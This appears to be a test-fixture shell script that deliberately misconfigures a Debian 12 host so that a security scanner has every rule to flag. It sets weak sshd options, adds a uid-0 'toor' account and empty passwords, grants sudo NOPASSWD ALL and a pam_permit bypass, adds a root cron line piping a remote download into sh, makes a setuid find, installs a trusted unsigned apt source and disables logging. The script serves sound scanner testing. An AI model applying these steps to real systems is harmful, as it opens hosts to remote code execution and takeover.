# SPDX-License-Identifier: Apache-2.0
# Makes a stock debian-12 test host fail every rule that a container can be made to fail. Runs in the
# host, as root, and is recorded as the host `flawed`.
set -u
cd /

# --- ssh: host keys that others may read also keep sshd -T from answering -----------------------
cat >/etc/ssh/sshd_config.d/00-flaws.conf <<'END'
PermitEmptyPasswords yes
HostbasedAuthentication yes
IgnoreRhosts no
LogLevel QUIET
MaxSessions 50
UseDNS yes
GatewayPorts yes
GSSAPIAuthentication yes
PermitTunnel yes
PermitUserEnvironment yes
PubkeyAuthentication no
StrictModes no
UsePAM no
AcceptEnv LD_PRELOAD
Ciphers +aes128-cbc
KexAlgorithms diffie-hellman-group14-sha1
HostKeyAlgorithms +ssh-rsa
PubkeyAcceptedAlgorithms +ssh-rsa
END
chmod 666 /etc/ssh/sshd_config /etc/ssh/ssh_host_*_key.pub
chmod 644 /etc/ssh/ssh_host_*_key
mkdir -p /root/.ssh
cp /home/ops/.ssh/authorized_keys /root/.ssh/
ssh-keygen -q -t rsa -b 1024 -N '' -f /home/ops/.ssh/id_rsa
cat /home/ops/.ssh/id_rsa.pub >>/home/ops/.ssh/authorized_keys
chmod 644 /home/ops/.ssh/id_rsa
chmod 666 /home/ops/.ssh/authorized_keys
chmod 777 /home/ops/.ssh

# --- accounts -----------------------------------------------------------------------------------
sed -i 's/^ENCRYPT_METHOD.*/ENCRYPT_METHOD MD5/' /etc/login.defs
useradd -m -s /bin/bash twin
useradd -o -u "$(id -u twin)" -M -d /nonexistent -s /bin/bash other
useradd -o -u 0 -M -d /root toor
groupadd -o -g "$(id -g twin)" twins
usermod -g 0 twin
usermod -p '$1$abcdefgh$irWbblnpmw.5z7wgBnprh0' twin
usermod -p '' other
usermod -aG disk ops
usermod -s /bin/bash games
echo games:games | chpasswd
chage -d 2030-01-01 ops
echo 'ghost:x:2001:9999::/home/ghost:/bin/bash' >>/etc/passwd
chown daemon /home/twin
echo '+ +' >/home/ops/.rhosts
echo ops@example.org >/home/ops/.forward
echo 'machine example.org login ops password none' >/home/ops/.netrc
touch /home/ops/.bashrc
chmod 666 /home/ops/.bashrc
chmod 644 /home/ops/.netrc
chmod 777 /home/ops
chmod 666 /etc/issue /etc/issue.net /etc/motd /etc/passwd /etc/group
chmod 644 /etc/shadow /etc/shadow- /etc/security/opasswd

# --- sudo and PAM -------------------------------------------------------------------------------
cat >/etc/sudoers.d/flaws <<'END'
Defaults !authenticate
Defaults !env_reset
Defaults !use_pty
Defaults timestamp_timeout=-1
twin ALL = (ALL) ALL, !/bin/su
twin ALL = (root) NOPASSWD: /usr/bin/vim
twin ALL = (root) /bin/cat /var/log/*
twin ALL = (ALL) NOPASSWD: ALL
ALL ALL = (ALL) ALL
END
chmod 440 /etc/sudoers.d/flaws
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd
sed -i 's/yescrypt/md5/' /etc/pam.d/common-password

# --- cron ---------------------------------------------------------------------------------------
echo '* * * * * root curl http://example.org/a | sh' >/etc/cron.d/fetch
echo '1 1 * * * root /opt/job' >/etc/cron.d/job
printf '#!/bin/sh\n' >/opt/job
chmod 777 /opt/job
chmod 666 /etc/cron.d/job

# --- files --------------------------------------------------------------------------------------
chmod u+s /usr/bin/find
install -m 4755 /usr/bin/id /usr/local/bin/idsu
install -m 755 /usr/bin/perl /usr/local/bin/netprobe
# cap_setuid+ep, as setcap would write it, which is not here.
perl -e 'my ($path, $name) = ("/usr/local/bin/netprobe", "security.capability");
	my $value = pack("V5", 0x02000001, 1 << 7, 0, 0, 0);
	syscall(188, $path, $name, $value, length $value, 0) == 0 or die $!'
install -d -m 777 /srv/open
chmod 777 /usr/local/sbin /boot /var/tmp
echo orphan >/srv/orphan
chown 4242:4243 /srv/orphan
echo open >/srv/everybody
chmod 666 /srv/everybody /var/log/auth.log
echo '//nas/share /mnt cifs username=ops,password=none 0 0' >>/etc/fstab

# --- the network --------------------------------------------------------------------------------
cat >/usr/local/bin/answer <<'END'
use Socket;
my @all;
for (2375, 445, 21, 389, 6379, 27017, 5900, 23, 25, 3306, 1883, 8500, 10250) {
	socket(my $s, PF_INET, SOCK_STREAM, 6);
	bind($s, sockaddr_in($_, INADDR_ANY)) && listen($s, 5) or die "$_: $!";
	push @all, $s;
}
for (161, 69, 514, 11211, 1900, 19) {
	socket(my $s, PF_INET, SOCK_DGRAM, 17);
	bind($s, sockaddr_in($_, INADDR_ANY)) or die "$_: $!";
	push @all, $s;
}
sleep 3600;
END
systemd-run -q --unit=answer perl /usr/local/bin/answer
for parameter in ip_forward=1 ip_unprivileged_port_start=0 tcp_syncookies=0 tcp_timestamps=0 \
	icmp_echo_ignore_broadcasts=0 icmp_ignore_bogus_error_responses=0 conf.all.accept_source_route=1 \
	conf.all.proxy_arp=1 conf.all.route_localnet=1 conf.all.send_redirects=1; do
	sysctl -qw "net.ipv4.$parameter"
done
: >/etc/resolv.conf

# --- services -----------------------------------------------------------------------------------
cp /usr/bin/sleep /tmp/sleeper
systemd-run -q --unit=in-tmp /tmp/sleeper 3600
cp /usr/bin/sleep /opt/deleted
systemd-run -q --unit=deleted /opt/deleted 3600
systemd-run -q --unit=failing false
printf '[Service]\nExecStart=/usr/bin/sleep 3600\n' >/etc/systemd/system/own.service
install -d /etc/systemd/system/rescue.service.d
printf '[Service]\nExecStart=\nExecStart=/bin/bash\n' >/etc/systemd/system/rescue.service.d/shell.conf
systemctl daemon-reload
systemctl -q enable debug-shell.service
systemctl start own.service
rm /opt/deleted

# --- logs ---------------------------------------------------------------------------------------
sed -i 's/^\$FileCreateMode.*/$FileCreateMode 0666/' /etc/rsyslog.conf
install -d /etc/systemd/journald.conf.d
printf '[Journal]\nStorage=none\nCompress=no\nForwardToSyslog=no\n' \
	>/etc/systemd/journald.conf.d/flaws.conf
rm -f /etc/cron.daily/logrotate
systemctl -q disable logrotate.timer cron.service rsyslog.service
systemctl -q stop logrotate.timer cron.service syslog.socket rsyslog.service

# --- packages and updates -----------------------------------------------------------------------
# package NAME STATUS: one that dpkg takes for there.
package() {
	printf 'Package: %s\nStatus: %s\nVersion: 1\nArchitecture: amd64\nMaintainer: x\nDescription: x\n\n' \
		"$1" "$2" >>/var/lib/dpkg/status
}
for name in telnetd telnet nis rsh-server tftpd-hpa vsftpd openbsd-inetd gcc-12 popularity-contest \
	talkd; do
	package $name 'install ok installed'
done
package left-half 'install reinstreq half-installed'
package held 'hold ok installed'
cp /usr/share/keyrings/debian-archive-removed-keys.gpg /etc/apt/trusted.gpg
sed -i /security/d /etc/apt/sources.list
echo 'deb [trusted=yes] http://example.org/ stable main' >>/etc/apt/sources.list
echo 'deb http://example.com/ stable main' >>/etc/apt/sources.list
find /var/lib/apt/lists -type f -exec touch -d 2025-01-01 {} +
true
